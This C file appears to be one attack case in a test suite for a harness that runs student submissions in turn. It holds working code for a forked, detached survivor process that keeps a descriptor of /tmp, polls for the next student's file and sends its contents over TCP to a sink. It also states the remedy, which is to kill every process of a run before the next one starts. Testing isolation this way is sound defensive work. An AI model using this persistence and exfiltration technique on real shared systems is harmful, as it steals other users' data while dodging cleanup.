// SPDX-License-Identifier: MIT
/*
 * survivor-dirfd.c - the last student reads the next one.
 *
 * Goal: another student's work; here the victim comes second.
 * Means: the attacker leaves a process behind that holds a descriptor of /tmp. It looks for the
 * next student's file every millisecond, and carries it out over TCP. Renaming, covering or
 * clearing /tmp does not matter to a descriptor.
 *
 *     attacker --fork--> survivor: openat(tmp, ...) every ms ... connect, send
 *       ends     victim:                             write
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define TRIES 5000 /* one each millisecond */

/* Wait for the file and send it on. Holds no pipe of the caller's, who would wait for its end. */
static _Noreturn void survive(int folder, const struct brief *b)
{
	const struct timespec tick = {.tv_nsec = 1000000};
	char name[128], text[256];
	int fd, sink;
	ssize_t n;

	setsid();
	dup2(folder, STDIN_FILENO);
	close_range(STDIN_FILENO + 1, ~0U, 0);
	snprintf(name, sizeof(name), "%s.txt", b->name);
	for (int i = 0; i < TRIES; i++, nanosleep(&tick, NULL)) {
		fd = openat(STDIN_FILENO, name, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		n = read(fd, text, sizeof(text));
		close(fd);
		if (n <= 0)
			continue; /* made, and not yet written */
		sink = dial(SOCK_STREAM, b->sink);
		send(sink, text, (size_t)n, MSG_NOSIGNAL);
		break;
	}
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	int folder = open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	pid_t child;

	attempting(b);
	if (folder < 0)
		return denied("open");
	child = fork();
	if (!child)
		survive(folder, b);
	return child < 0 ? denied("fork") : CLAIM_DONE;
}

/* The honest student of the next run: writes its file, and is busy for a while. */
static enum claim victim(const struct brief *b)
{
	const struct timespec busy = {.tv_nsec = 300000000};
	char path[128];
	int fd;

	snprintf(path, sizeof(path), "/tmp/%s.txt", b->name);
	fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0)
		fd = open(path + strlen("/tmp/"), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0 || write(fd, b->secret, strlen(b->secret)) < 0)
		return failed("write");
	nanosleep(&busy, NULL);
	close(fd);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the last student reads the next one's file",
	.means = "a survivor with a descriptor of /tmp, which sends what appears there",
	.oracle = "secret:victim",
	.scene = SCENE_BEFORE_VICTIM,
	.id = "TMPS-14",
	.attack_id = "T1005, T1074.001, CWE-459, CWE-403",
	.remedy = "end every process of a run before the next starts",
	.run = run,
	.victim = victim,
};
